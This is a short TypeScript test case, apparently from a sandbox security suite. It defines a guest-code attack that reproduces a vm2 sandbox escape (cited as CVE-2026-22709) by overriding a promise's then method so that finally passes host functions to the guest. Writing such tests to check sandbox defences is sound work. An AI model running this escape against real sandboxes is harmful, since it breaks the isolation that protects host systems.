import { attack } from '../attack.ts';

/** `finally` makes its own functions and passes them to a `then` that the guest gave (vm2 CVE-2026-22709). */
export const escape = attack({
	grants: ['plain'],
	source: `
		const promise = plain.greet('x');
		let got;
		try {
			promise.then = function (...handlers) { got = handlers.map((handler) => loot(handler)).find(Boolean); return this; };
			promise.finally(() => {});
		} catch {}
		return got;
	`,
});
